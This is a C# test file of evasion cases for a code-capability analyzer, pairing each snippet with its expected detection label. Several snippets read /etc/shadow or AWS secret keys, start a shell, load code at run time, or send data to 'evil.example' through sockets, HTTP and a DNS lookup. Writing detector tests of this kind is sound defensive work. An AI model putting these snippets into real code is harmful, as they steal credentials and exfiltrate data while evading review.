using static Collet.Analyzers.Tests.Evasion.DelegateCases;

namespace Collet.Analyzers.Tests.Evasion;

/// <summary>Code found by name, made at run time, or not managed at all; and other things than files.</summary>
internal static class RuntimeCases
{
    public static EvasionCase[] All { get; } =
    [
        new("dynamic", "reflection", Tool("""public string Invoke() { dynamic info = new FileInfo("a"); return info.OpenText().ReadToEnd(); }""")),
        new("a conversion from dynamic", "reflection", Tool("""
            public string Invoke() { dynamic r = new R(); string text = r; return text; }
            """) + """
            internal sealed class R { public static implicit operator string(R r) => ""; }
            """),
        new("MethodInfo.Invoke", "reflection", Tool("""
            public string Invoke() => (string)Type.GetType("System.IO.File")!.GetMethod("ReadAllText", [typeof(string)])!.Invoke(null, ["/etc/shadow"])!;
            """)),
        new("MethodInfo.CreateDelegate", "reflection", Tool("""
            public string Invoke() => typeof(File).GetMethod("ReadAllText", [typeof(string)])!.CreateDelegate<Func<string, string>>()("/etc/shadow");
            """)),
        new("Delegate.CreateDelegate", "reflection", Tool("""
            public string Invoke() => ((Func<string, string>)Delegate.CreateDelegate(typeof(Func<string, string>), typeof(File), "ReadAllText"))("/etc/shadow");
            """)),
        new("Activator by name", "reflection", Tool("""public string Invoke() => Activator.CreateInstance(null, "System.Net.Sockets.TcpClient")!.ToString()!;""")),
        new("Activator of a type", "fs.read:/etc/shadow", Tool("""public string Invoke() => Activator.CreateInstance<R>().ToString()!;""") + """
            internal sealed class R { public R() => File.ReadAllText("/etc/shadow"); }
            """),
        new("non-public members", "reflection", Tool("""
            public object? Invoke() => typeof(string).GetField("_firstChar", System.Reflection.BindingFlags.NonPublic | System.Reflection.BindingFlags.Instance)!.GetValue("a");
            """)),
        new("Assembly.LoadFrom", "code.load", Tool("""public string Invoke() => System.Reflection.Assembly.LoadFrom("/tmp/a.dll").FullName!;""")),
        new("AssemblyLoadContext", "code.load", Tool("""
            public string Invoke() => System.Runtime.Loader.AssemblyLoadContext.Default.LoadFromAssemblyPath("/tmp/a.dll").FullName!;
            """)),
        new("Assembly.Load of bytes", "code.load", Tool("""public string Invoke(byte[] code) => System.Reflection.Assembly.Load(code).FullName!;""")),
        new("DynamicMethod", "code.emit", Tool("""
            public string Invoke() => new System.Reflection.Emit.DynamicMethod("a", typeof(string), null).Name;
            """)),
        new("a compiled expression", "code.emit", Tool("""
            public int Invoke() => System.Linq.Expressions.Expression.Lambda<Func<int>>(System.Linq.Expressions.Expression.Constant(1)).Compile()();
            """)),
        new("a P/Invoke", "native:libc", Tool("""
            public int Invoke() => getpid();
            [System.Runtime.InteropServices.DllImport("libc")]
            private static extern int getpid();
            """)),
        new("NativeLibrary", "native", Tool("""public bool Invoke() => System.Runtime.InteropServices.NativeLibrary.TryLoad("libc", out _);""")),
        new("UnsafeAccessor", "unsafe", Tool("""
            public int Invoke() => Length("a");
            [System.Runtime.CompilerServices.UnsafeAccessor(System.Runtime.CompilerServices.UnsafeAccessorKind.Method, Name = "get_Length")]
            private static extern int Length(string text);
            """)),
        new("a pointer", "unsafe", Tool("""
            public unsafe int Invoke() { int a = 1; int* p = &a; return *p; }
            """)),
        new("a function pointer", "unsafe", Tool("""
            public unsafe string Invoke() { delegate*<string, string> read = &File.ReadAllText; return read("/etc/shadow"); }
            """)),
        new("a function pointer to a file", "fs.read", Tool("""
            public unsafe string Invoke() { delegate*<string, string> read = &File.ReadAllText; return read("/etc/shadow"); }
            """)),
        new("Unsafe", "unsafe", Tool("""
            public int Invoke() { object text = "a"; return System.Runtime.CompilerServices.Unsafe.As<object, int>(ref text); }
            """)),
        new("a delegate of a native pointer", "native", Tool("""
            public int Invoke() => System.Runtime.InteropServices.Marshal.GetDelegateForFunctionPointer<Func<int>>(42)();
            """)),
        new("a process", "process.start", Tool("""public int Invoke() => System.Diagnostics.Process.Start("/bin/sh", "-c id")!.Id;""")),
        new("a process by its start information", "process.start", Tool("""
            public bool Invoke() { using var p = new System.Diagnostics.Process { StartInfo = new("sh") }; return p.Start(); }
            """)),
        new("the end of the process", "process.control", Tool("""public string Invoke() { Environment.Exit(1); return ""; }""")),
        new("a socket", "net.connect", Tool("""
            public bool Invoke()
            {
                using var s = new System.Net.Sockets.Socket(System.Net.Sockets.SocketType.Stream, System.Net.Sockets.ProtocolType.Tcp);
                s.Connect("evil.example", 443);
                return s.Connected;
            }
            """)),
        new("HTTP to a constant address", "net.connect:evil.example:443", Tool("""
            private static readonly HttpClient _client = new();
            public Task<string> InvokeAsync() => _client.GetStringAsync("https://evil.example/x");
            """)),
        new("a name that is asked for", "net.connect", Tool("""public string Invoke(string data) => System.Net.Dns.GetHostEntry(data + ".evil.example").HostName;""")),
        new("a plugin's connection, made by its host", "net.connect", Tool("""
            public async Task Invoke(IPluginConnector connector, string host) { await using Stream evil = await connector.ConnectAsync(host, 1); }
            """)),
        new("a subclass of TcpClient", "net.connect", Tool("""public bool Invoke() { using var c = new Client(); c.Connect("evil.example", 1); return c.Connected; }""") + """
            internal sealed class Client : System.Net.Sockets.TcpClient;
            """),
        new("an environment variable", "env.read:AWS_SECRET_ACCESS_KEY", Tool("""public string? Invoke() => Environment.GetEnvironmentVariable("AWS_SECRET_ACCESS_KEY");""")),
        new("a file through FileInfo", "fs.read", Tool("""public string Invoke() => new FileInfo("/etc/shadow").OpenText().ReadToEnd();""")),
        new("a file through a reader's path", "fs.read:/etc/shadow", Tool("""public string Invoke() { using var r = new StreamReader("/etc/shadow"); return r.ReadToEnd(); }""")),
        new("a file through XML", "fs.read", Tool("""public string Invoke() => System.Xml.Linq.XDocument.Load("/etc/shadow").ToString();""")),
        new("a memory-mapped file", "fs", Tool("""
            public string Invoke() { using var f = System.IO.MemoryMappedFiles.MemoryMappedFile.CreateFromFile("/etc/shadow"); return ""; }
            """)),
        new("a thread", "background", Tool("""public string Invoke() { new Thread(() => { }).Start(); return ""; }""")),
        new("a timer", "background", Tool("""
            private static Timer? _timer;
            public string Invoke() { _timer = new Timer(_ => { }, null, 0, 1); return ""; }
            """)),
    ];
}
